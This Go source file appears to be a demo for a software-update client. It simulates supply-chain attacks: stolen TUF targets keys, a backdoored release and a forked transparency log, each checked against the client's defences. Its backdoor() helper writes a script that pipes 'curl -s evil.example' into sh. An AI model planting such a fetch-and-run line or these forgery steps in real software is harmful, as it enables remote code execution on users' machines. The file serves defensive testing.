package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"strings"

	"github.com/latchsec/latch/client"
	"github.com/latchsec/latch/transparency"
	"github.com/latchsec/latch/transparency/logwriter"
	"github.com/theupdateframework/go-tuf/v2/metadata"
	"golang.org/x/mod/sumdb/note"
)

// Release transparency: the vendor appends every release to a public
// transparency log (C2SP tlog-tiles, written with Tessera's POSIX driver
// as publish does), each mirror serves it under /log/, and the device's
// client requires myapp's releases to be in it (client.TransparencyLog).
// The attacker of these scenes holds both targets keys, as a compromised
// build system would: TUF alone accepts what it signs.

// demoLogOrigin names the demo's log.
const demoLogOrigin = "demo.example/myapp/log"

// releaseLog is the vendor's log: a directory written by Tessera.
type releaseLog struct {
	dir    string
	signer note.Signer
	vkey   string
}

// newReleaseLog creates an empty log in dir, with a key from a fixed seed.
func newReleaseLog(dir string) (*releaseLog, error) {
	seed := sha256.Sum256([]byte("latch demo key/log"))
	skey, vkey, err := note.GenerateKey(bytes.NewReader(seed[:]), demoLogOrigin)
	if err != nil {
		return nil, err
	}
	signer, err := note.NewSigner(skey)
	if err != nil {
		return nil, err
	}
	l := &releaseLog{dir: dir, signer: signer, vkey: vkey}
	if _, err := l.append(dir); err != nil {
		return nil, err
	}
	return l, nil
}

// policy is the device's release transparency policy, without the URLs
// (each mirror adds its /log/).
func (l *releaseLog) policy() *client.TransparencyLog {
	return &client.TransparencyLog{
		Origin: demoLogOrigin, Key: l.vkey, Paths: []string{"myapp/*/*"},
	}
}

// entry is the log entry of content released as target path p.
func (l *releaseLog) entry(p string, content []byte) []byte {
	e := transparency.Entry{
		Repository: demoLogOrigin, Path: p,
		Length: int64(len(content)), SHA256: sha256.Sum256(content),
	}
	b, err := e.Marshal()
	if err != nil {
		panic(err) // the demo's paths are valid entries
	}
	return b
}

// append adds entries to the log in dir (the vendor's, or a fork of it
// signed with the same key) and returns the first one's index.
func (l *releaseLog) append(dir string, entries ...[]byte) (int64, error) {
	ctx, cancel := context.WithTimeout(context.Background(), sceneTimeout)
	defer cancel()
	return logwriter.Append(ctx, dir, l.signer, entries...)
}

// size is the number of entries in the vendor's log.
func (l *releaseLog) size() (int64, error) {
	ctx, cancel := context.WithTimeout(context.Background(), sceneTimeout)
	defer cancel()
	lw, err := logwriter.Open(ctx, l.dir, l.signer)
	if err != nil {
		return 0, err
	}
	n, err := lw.NextIndex(ctx)
	return n, errors.Join(err, lw.Close(ctx))
}

// monitor is the vendor's watch on its own log (client.Client.MonitorLog):
// a client of the vendor's own repository, served by a site of the
// vendor's that no attacker touched, checks that every entry of the log is
// a release the repository signed. It returns the entries that are not.
func (w *world) monitor(ctx context.Context) ([]int64, error) {
	vendor := newSite("vendor")
	defer vendor.close()
	vendor.sync(w.repo)
	vendor.serveLog(w.repo.log.dir)
	policy := w.repo.log.policy()
	policy.URLs = []string{vendor.srv.URL + "/log/"}
	c, err := client.New(client.Config{
		TrustedRoot:     w.repo.rootJSON(),
		MetadataURLs:    []string{vendor.metadataURL()},
		StateDir:        filepath.Join(filepath.Dir(w.stateDir), "monitor"),
		TransparencyLog: policy,
	}, client.WithClock(w.clock.now))
	if err != nil {
		return nil, err
	}
	defer c.Close()
	if err := c.Refresh(ctx); err != nil {
		return nil, err
	}
	var unknown []int64
	_, err = c.MonitorLog(ctx, func(u client.UnknownLogEntry) error {
		unknown = append(unknown, u.Index)
		return nil
	})
	return unknown, err
}

// backdoor is the attacker's build of myapp.
func backdoor(version string) []byte {
	return []byte("#!/bin/sh\necho 'myapp " + version + "'; curl -s evil.example | sh\n")
}

// forgeRelease makes the victim's mirror serve a targets file signed with
// both stolen targets keys in which myapp version points at the backdoor,
// naming log entry index (nil: none).
func (w *world) forgeRelease(version string, index *int64) error {
	p, evil := targetPath(version), backdoor(version)
	stolen := w.repo.keys[metadata.TARGETS]
	forged, err := w.repo.forgeTargets(p, version, evil, index, stolen...)
	if err != nil {
		return err
	}
	w.mirror().put(targetURLPath(p, evil), evil)
	name := fmt.Sprintf("metadata/%d.targets.json", w.repo.targets.Signed.Version)
	w.mirror().attack(name, serveBytes(forged))
	return nil
}

// tlScene is an attack on a device whose client requires the log.
type tlScene struct {
	name, attack string
	// stage sets the attack up in a world where 1.0.0 is installed (and
	// proven in the log) and 2.0.0 just released, and returns the version
	// the application then updates to.
	stage func(ctx context.Context, w *world) (string, error)
	// want is the sentinel latch must answer with; nil: the thief's
	// release installs, and the vendor's monitor must flag its entry.
	want error
	note string
}

var tlScenes = []tlScene{
	{
		name: "unlogged release",
		attack: "signs myapp 2.0.0 -> a backdoor for one victim with both targets keys, " +
			"naming a log entry that does not exist",
		want: client.ErrNotLogged,
		note: "without the log policy latch installs it: " +
			"both required targets keys signed it",
		stage: func(_ context.Context, w *world) (string, error) {
			w.syncAll()
			var index *int64
			if w.repo.log != nil { // the contrast run has no log
				n, err := w.repo.log.size()
				if err != nil {
					return "", err
				}
				index = &n
			}
			return "2.0.0", w.forgeRelease("2.0.0", index)
		},
	},
	{
		name: "logged release",
		attack: "also holds the log key: logs the backdoor as myapp 2.0.0 " +
			"and names that entry",
		stage: func(_ context.Context, w *world) (string, error) {
			w.syncAll()
			l := w.repo.log
			i, err := l.append(l.dir, l.entry(targetPath("2.0.0"), backdoor("2.0.0")))
			if err != nil {
				return "", err
			}
			return "2.0.0", w.forgeRelease("2.0.0", &i)
		},
	},
	{
		name: "forked log",
		attack: "holds every key: publishes a backdoor 2.0.1 to a device that trusts " +
			"the public log at 2 entries, logged in a private fork of the log",
		want: client.ErrSplitView,
		stage: func(ctx context.Context, w *world) (string, error) {
			w.syncAll()
			if _, err := w.update(ctx, "2.0.0"); err != nil {
				return "", fmt.Errorf("honest update before the fork: %w", err)
			}
			// The fork keeps entry 0 and puts the backdoor at 1, where the
			// public log has 2.0.0: the monitor, reading the public log,
			// never sees it.
			l := w.repo.log
			fork := filepath.Join(filepath.Dir(l.dir), "fork")
			first := l.entry(targetPath("1.0.0"), binary("1.0.0"))
			evil := l.entry(targetPath("2.0.1"), backdoor("2.0.1"))
			if _, err := l.append(fork, first, evil); err != nil {
				return "", err
			}
			one := int64(1)
			err := w.repo.publish(targetPath("2.0.1"), "2.0.1", backdoor("2.0.1"), &one)
			if err != nil {
				return "", err
			}
			w.syncAll()
			w.mirror().serveLog(fork)
			return "2.0.1", nil
		},
	},
}

// playTransparency runs sc in a fresh world below dir whose client requires
// the log (or, for the contrast, a world without a log).
func playTransparency(ctx context.Context, dir string, sc tlScene, withLog bool) (outcome, error) {
	var tl *releaseLog
	if withLog {
		var err error
		if tl, err = newReleaseLog(filepath.Join(dir, "log")); err != nil {
			return outcome{}, err
		}
	}
	w, err := newWorldLogged(ctx, dir, tl, "mirror")
	if err != nil {
		return outcome{}, err
	}
	defer w.close()
	version, err := sc.stage(ctx, w)
	if err != nil {
		return outcome{}, err
	}
	before, err := w.appState()
	if err != nil {
		return outcome{}, err
	}
	_, uerr := w.update(ctx, version)
	after, err := w.appState()
	if err != nil {
		return outcome{}, err
	}
	if sc.want != nil || !withLog {
		return w.refused(sc.want, uerr, before, after), nil
	}
	// The thief logged the release: it installs, and the vendor's monitor,
	// which compares its log with its repository, flags the entry.
	o := outcome{app: "CHANGED to " + after.label()}
	if uerr != nil {
		o.verdict, o.evidence = sentinelName(uerr), w.explain(uerr)
		return o, nil
	}
	flagged, err := w.monitor(ctx)
	if err != nil {
		return outcome{}, err
	}
	thief, err := w.repo.log.size()
	if err != nil {
		return outcome{}, err
	}
	thief-- // the thief's entry is the last
	o.verdict = "installed; monitor flags nothing"
	if len(flagged) > 0 {
		entries := strings.Trim(fmt.Sprint(flagged), "[]")
		o.verdict = fmt.Sprintf("installed; monitor flags entry %s", entries)
	}
	o.evidence = fmt.Sprintf("the vendor's monitor finds log entry %d, %s with sha256 %.10x…, "+
		"which its repository never signed",
		thief, targetPath("2.0.0"), sha256.Sum256(backdoor("2.0.0")))
	o.stopped = after.label() == "backdoor 2.0.0" && len(flagged) == 1 && flagged[0] == thief
	return o, nil
}

// transparencyScenes plays the release transparency scenes and writes their
// report; it returns how many were not stopped. A platform without
// Tessera's POSIX driver (Windows) skips them, saying so.
func transparencyScenes(dir string, out io.Writer) (int, error) {
	fmt.Fprintln(out)
	say(out, "", "", "release transparency: the vendor logs every release "+
		"(Tessera, C2SP tlog-tiles); the device requires myapp's releases "+
		"to be in the log; the attacker holds both targets keys (a compromised build):")
	fmt.Fprintln(out)
	rows := make([]row, len(tlScenes))
	for i, sc := range tlScenes {
		ctx, cancel := context.WithTimeout(context.Background(), sceneTimeout)
		sceneDir := filepath.Join(dir, fmt.Sprintf("tl%d", i+1))
		o, err := playTransparency(ctx, sceneDir, sc, true)
		cancel()
		if errors.Is(err, logwriter.ErrUnsupported) {
			fmt.Fprintf(out, "skipped: %v\n", err)
			return 0, nil
		}
		if err != nil {
			o = outcome{verdict: "DEMO FAILED", evidence: err.Error(), app: "?"}
		}
		note := sc.note
		if note != "" {
			// The contrast: the same attack on a device without the policy.
			ctx, cancel := context.WithTimeout(context.Background(), sceneTimeout)
			c, err := playTransparency(ctx, sceneDir+"-nolog", sc, false)
			cancel()
			if err != nil {
				return 0, err
			}
			if c.app != "CHANGED to backdoor 2.0.0" {
				o.stopped = false
				note = "the contrast failed: without the log the attack gave " +
					c.app
			}
		}
		rows[i] = row{name: sc.name, attack: sc.attack, note: note, o: o}
	}
	return report(out, rows), nil
}
